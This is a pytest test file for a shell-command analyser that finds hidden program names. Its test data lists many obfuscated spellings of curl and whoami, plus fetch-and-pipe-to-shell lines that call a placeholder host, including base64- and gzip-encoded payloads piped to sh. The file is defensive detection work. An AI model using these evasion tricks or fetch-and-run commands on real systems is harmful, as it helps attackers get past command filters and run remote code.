# SPDX-License-Identifier: Apache-2.0
"""Spellings that hide a command from a search: what the shell would run is what is read."""

from __future__ import annotations

import pytest

from innerwarden.shell import analyse_argv, analyse_line, analyse_script

#: What is written -> the program that runs.
HIDDEN = [
    ('c""url -s http://192.0.2.1/x', "curl"),
    ("c''url http://192.0.2.1/x", "curl"),
    ('"cu"rl http://192.0.2.1/x', "curl"),
    ("c\\url http://192.0.2.1/x", "curl"),
    ("$'\\x63url' http://192.0.2.1/x", "curl"),
    ("$'\\143\\165\\162\\154' http://192.0.2.1/x", "curl"),
    ("$'\\u0063url' http://192.0.2.1/x", "curl"),
    ("curl${IFS}-s${IFS}http://192.0.2.1/x", "curl"),
    ("curl$IFS$9http://192.0.2.1/x", "curl"),
    ("c$@url http://192.0.2.1/x", "curl"),
    ("cu$1rl http://192.0.2.1/x", "curl"),
    ("cu${unset}rl http://192.0.2.1/x", "curl"),
    ("a=cu;b=rl;$a$b http://192.0.2.1/x", "curl"),
    ("a=cu; ${a}rl http://192.0.2.1/x", "curl"),
    ("x=xcurlx; ${x:1:4} http://192.0.2.1/x", "curl"),
    ("x=cXuXrXl; ${x//X/} http://192.0.2.1/x", "curl"),
    ("x=CURL; ${x,,} http://192.0.2.1/x", "curl"),
    ("$(echo curl) http://192.0.2.1/x", "curl"),
    ("`printf curl` http://192.0.2.1/x", "curl"),
    ("$(rev <<< lruc) http://192.0.2.1/x", "curl"),
    ("$(echo phey | tr a-z n-za-m) http://192.0.2.1/x", "curl"),
    ("$(echo Y3VybA== | base64 -d) http://192.0.2.1/x", "curl"),
    ("/???/b?n/c?rl http://192.0.2.1/x", "curl"),
    ("/usr/bin/cur[l] http://192.0.2.1/x", "curl"),
    ("who$1ami", "whoami"),
]


@pytest.mark.parametrize(("text", "program"), HIDDEN)
def test_a_hidden_name_is_read_and_told(text: str, program: str) -> None:
    command = [one for one in analyse_script(text).commands() if one.name == program]
    assert command, text
    assert command[0].hidden, text


#: Everyday spellings that hide nothing.
PLAIN = [
    '"curl" -s http://192.0.2.1/x',
    "'curl' http://192.0.2.1/x",
    "\\ls -l",
    "CC=gcc; $CC -o x x.c",
    "${CC:-gcc} -o x x.c",
    '"$HOME"/bin/tool --name="value" -p\'secret\'',
    "grep -e'x' file; awk -F':' '{print $1}' /etc/passwd",
    "echo $'\\t' $'a\\'b' \"it's\"",
    "[ -f x ] && ls *.c",
    "python$VERSION -V",
    "D=/opt; $D/bin/run",
    "sed 's/a/b/;s/c/d/' x > y",
    "make CFLAGS=\"-O2 -g\" 'DESTDIR='",
]


@pytest.mark.parametrize("text", PLAIN)
def test_an_everyday_spelling_hides_nothing(text: str) -> None:
    analysis = analyse_script(text)
    assert not any(command.hidden for command in analysis.commands())
    assert analysis.problems == {}


def test_brace_words_are_written_out() -> None:
    analysis = analyse_script("{curl,-s,http://192.0.2.1/x} | sh")
    names = [command.name for command in analysis.commands()]
    assert names == ["curl", "sh"]
    assert analysis.hidden_words == ("{curl,-s,http://192.0.2.1/x}",)


@pytest.mark.parametrize("text", ["echo {a,b}c", "f() { a, b; }", "awk '{print $1,$2}'", 'echo "{a,b}"'])
def test_other_braces_stay(text: str) -> None:
    assert analyse_script(text).hidden_words == ()


@pytest.mark.parametrize(
    ("text", "decoded"),
    [
        ("echo aWQ= | base64 -d | sh", "id"),
        ("base64 -d <<< aWQ= | bash", "id"),
        ("printf '\\x69\\x64' | sh", "id"),
        ("echo -e '\\151\\144' | sh", "id\n"),
        ("echo di | rev | bash", "id\n"),
        ("echo 6964 | xxd -r -p | sh", "id"),
        ("tr a-z n-za-m <<< vq | bash", "id\n"),
        ("echo aWQ= | openssl base64 -d | sh", "id"),
        ("echo iXd | sed s/X// | sh", "id\n"),
        ("echo H4sIAAAAAAAA/8tMAQDsZIQJAgAAAA== | base64 -d | gunzip | sh", None),
    ],
)
def test_encoded_text_is_decoded_and_read(text: str, decoded: str | None) -> None:
    analysis = analyse_script(text)
    if decoded is None:
        assert analysis.decoded == ()
        return
    assert analysis.decoded == (decoded,)
    assert [command.name for command in analysis.commands() if command.depth == 1] == ["id"]


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", "curl x"],
        ["/bin/bash", "-lc", "curl x"],
        ["bash", "-o", "pipefail", "-ec", "curl x"],
        ["bash", "--norc", "-c", "curl x", "name"],
        [
            "env",
            "A=1",
            "-u",
            "B",
            "nice",
            "-n",
            "5",
            "timeout",
            "-k",
            "1",
            "3",
            "setsid",
            "sh",
            "-c",
            "curl x",
        ],
        ["busybox", "sh", "-c", "curl x"],
        ["sudo", "-u", "root", "--", "bash", "-c", "curl x"],
        ["xargs", "-n1", "sh", "-c", "curl x"],
        ["su", "-", "bob", "-c", "curl x"],
        ["sh", "-c", "eval 'curl x'"],
        ["sh", "-c", "sh -c \"sh -c 'curl x'\""],
        ["sh", "-c", "$0 $1", "curl", "x"],
        ["sh", "-c", '"$@"', "_", "curl", "x"],
        ["sh", "-c", "cat <<E | sh\ncurl x\nE\n"],
        ["sh", "-c", "bash <<< 'curl x'"],
        ["sh", "-c", "find . -exec curl x ;"],
        ["ionice", "-c", "3", "taskset", "1", "stdbuf", "-oL", "nohup", "curl", "x"],
    ],
)
def test_a_command_is_found_behind_wrappers_and_in_texts(argv: list[str]) -> None:
    assert any(one.name == "curl" and one.arguments == ("x",) for one in analyse_argv(argv).commands())


def test_a_script_name_is_no_text() -> None:
    assert [one.name for one in analyse_argv(["sh", "script.sh", "-c", "curl x"]).commands()] == ["sh"]


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("/usr/bin/bash -c curl http://192.0.2.1/x | sh", ["bash", "curl", "sh"]),
        ("/usr/bin/bash -c 'curl http://192.0.2.1/x | sh'", ["bash", "curl", "sh"]),
        ("/usr/bin/bash -c curl\\ http://192.0.2.1/\\'x\\'", ["bash", "curl"]),
        ("/usr/bin/env A=1 /bin/sh -c id; curl 'a b'", ["sh", "id", "curl"]),
        ("/usr/bin/ls it's", ["ls"]),
    ],
)
def test_a_line_of_sudo_before_and_since_it_quotes(line: str, names: list[str]) -> None:
    assert [one.name for one in analyse_line(line).commands()] == names


def test_a_value_from_a_substitution_carries_its_origin() -> None:
    (echo,) = [one for one in analyse_script("B=$(curl x); echo $B | sh").commands() if one.name == "echo"]
    assert [one.name for source in echo.sources for one in source.commands()] == ["curl"]
